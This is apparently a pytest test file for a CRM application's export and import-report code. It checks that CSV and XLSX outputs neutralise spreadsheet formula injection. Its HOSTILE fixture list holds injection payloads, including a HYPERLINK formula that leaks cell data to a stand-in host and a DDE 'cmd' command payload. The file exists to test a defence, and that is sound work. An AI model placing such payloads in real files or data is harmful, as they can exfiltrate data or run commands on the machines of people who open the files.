"""Formula injection: no text a member stored can become a formula in a file we write.

Exports (CSV, XLSX) and the import error report apply one rule (crmferry.exports.formulas)
after the characters a spreadsheet drops; XLSX text cells are string cells, checked in
the sheet's XML and read back with openpyxl and python-calamine."""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from psycopg import sql
from python_calamine import CalamineWorkbook

from crmferry.config import Settings
from crmferry.db import Database
from crmferry.exports.formulas import neutralise_formula, neutralise_formula_sql
from tests.conftest import Org
from tests.jobrun import run_job

# Each starts with characters a spreadsheet (or the XLSX writer, which must drop what
# XML cannot hold) never shows, then a formula.
HOSTILE = [
    '\x01=HYPERLINK("http://evil.example/?leak="&B2,"click")',
    "\x0b=1+1",
    "\x1f\x02@SUM(A1:A2)",
    "\x08+cmd|' /C calc'!A0",
    "\x0c-2+3",
    "'\x01=1+1",
    "\x01'\x02=1+1",
    "=1+1",
    "\x01plain",
]
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def xlsx_text(value: str) -> str:
    """What an XLSX cell shows for stored text `value`: the rule applied, then the
    characters XML cannot hold dropped."""
    return ILLEGAL_CHARACTERS_RE.sub("", neutralise_formula(value))


def export_file(client: TestClient, db: Database, settings: Settings, org: Org, fmt: str) -> bytes:
    """The names and notes of the organization's contacts, exported as `fmt`."""
    created = client.post(
        "/api/v1/jobs",
        headers=org.member.headers,
        json={
            "job_type": "export",
            "data_type": "contacts",
            "options": {"format": fmt, "fields": ["name", "notes"]},
        },
    )
    assert created.status_code == 201, created.text
    done = run_job(db, settings, org.id, uuid.UUID(created.json()["id"]))
    assert done["status"] == "completed", done["error_message"]
    result = client.get(f"/api/v1/jobs/{created.json()['id']}/result", headers=org.member.headers)
    assert result.status_code == 200
    return result.content


@pytest.fixture
def hostile_org(db: Database, org: Org) -> Org:
    """An organization whose contacts' names and notes are the hostile values."""
    with db.tenant(org.id) as conn:
        conn.cursor().executemany(
            "INSERT INTO contacts (organization_id, name, notes, created_at)"
            " VALUES (%s, %s, %s, timestamptz '2024-01-01' + %s * interval '1 second')",
            [(org.id, value, value, i) for i, value in enumerate(HOSTILE)],
        )
    return org


def test_xlsx_export_holds_no_formula(
    app_client: TestClient, db: Database, settings: Settings, hostile_org: Org, tmp_path: Path
) -> None:
    path = tmp_path / "contacts.xlsx"
    path.write_bytes(export_file(app_client, db, settings, hostile_org, "xlsx"))
    expected = [[xlsx_text(v), xlsx_text(v)] for v in HOSTILE]

    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = archive.read("xl/worksheets/sheet1.xml")
        assert not [n for n in sheets if re.search(rb"<(\w+:)?f[\s>/]", archive.read(n))]
    cells = ElementTree.fromstring(xml).iter(f"{SHEET_NS}c")
    assert {c.get("t") for c in cells} == {"inlineStr"}  # every text cell a string

    sheet = openpyxl.load_workbook(path).worksheets[0]
    body = list(sheet.iter_rows(min_row=2))
    assert [[c.data_type for c in row] for row in body] == [["s", "s"]] * len(HOSTILE)
    assert [[c.value for c in row] for row in body] == expected

    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert calamine[1:] == expected


def test_csv_export_applies_the_same_rule(
    app_client: TestClient, db: Database, settings: Settings, hostile_org: Org
) -> None:
    data = export_file(app_client, db, settings, hostile_org, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows[1:] == [[neutralise_formula(v), neutralise_formula(v)] for v in HOSTILE]
    # the spreadsheet that drops the control characters still sees text after a quote
    assert all(xlsx_text(v).startswith("'") for v in HOSTILE if v != "\x01plain")


def test_error_report_applies_the_same_rule(
    app_client: TestClient, db: Database, settings: Settings, org: Org
) -> None:
    """Every bad row's cells as the exports write them: signed numbers too (the report
    once let `-5` and `+1 555 0100` through, which the exports prefix)."""
    cells = [*HOSTILE, "-5", "+1 555 0100", "@risk"]
    table = [["Name", "Email"]] + [[f"Person {i}", f"p{i}@example.com"] for i in range(200)]
    table += [[cell, cell] for cell in cells]  # not an e-mail address: a row error each
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(table)
    upload = app_client.post(
        "/api/v1/uploads",
        headers=org.member.headers,
        files={"file": ("contacts.csv", buffer.getvalue().encode())},
        data={"data_type": "contacts"},
    )
    assert upload.status_code == 201, upload.text
    created = app_client.post(
        "/api/v1/jobs",
        headers=org.member.headers,
        json={
            "job_type": "import",
            "data_type": "contacts",
            "upload_id": upload.json()["id"],
            "mapping": {"Name": "name", "Email": "email"},
        },
    )
    assert created.status_code == 201, created.text
    run_job(db, settings, org.id, uuid.UUID(created.json()["id"]))
    report = app_client.get(
        f"/api/v1/jobs/{created.json()['id']}/errors", headers=org.member.headers
    )
    assert report.status_code == 200
    lines: list[Any] = list(csv.reader(io.StringIO(report.text.lstrip("\ufeff"), newline="")))
    safe = [neutralise_formula(cell) for cell in cells]
    assert [line[2] for line in lines[1:]] == safe  # the bad value
    assert [line[4:] for line in lines[1:]] == [[cell, cell] for cell in safe]  # the row


TRICKY = st.text(
    st.sampled_from(
        [
            "'",
            "=",
            "+",
            "-",
            "@",
            "\t",
            "\r",
            "\n",
            " ",
            "\x01",
            "\x0b",
            "\x1f",
            "\x7f",
            "a",
            "1",
            "é",
        ]
    ),
    max_size=8,
)
NEUTRALISE_ONE = sql.SQL("SELECT {} AS v FROM (SELECT %s::text AS t) AS x").format(
    neutralise_formula_sql(sql.Identifier("t"))
)


@settings(max_examples=300, deadline=None)
@given(TRICKY)
def test_sql_and_python_rules_agree_on_control_characters(db: Database, value: str) -> None:
    """CSV is neutralised in SQL (inside COPY), the error report in Python: one rule."""
    with db.anonymous() as conn:
        row = conn.execute(NEUTRALISE_ONE, [value]).fetchone()
    assert row is not None and row["v"] == neutralise_formula(value)


@settings(max_examples=300, deadline=None)
@given(TRICKY)
def test_no_cleaned_cell_starts_a_formula(value: str) -> None:
    """Neutralising, then dropping what XML cannot hold (the XLSX writer's order), is the
    same as dropping first and neutralising after; either way no formula is left."""
    cleaned = ILLEGAL_CHARACTERS_RE.sub("", value)
    assert xlsx_text(value) == neutralise_formula(cleaned)
    first = xlsx_text(value)[:1]
    assert not (first and first in "=+-@\t\r")
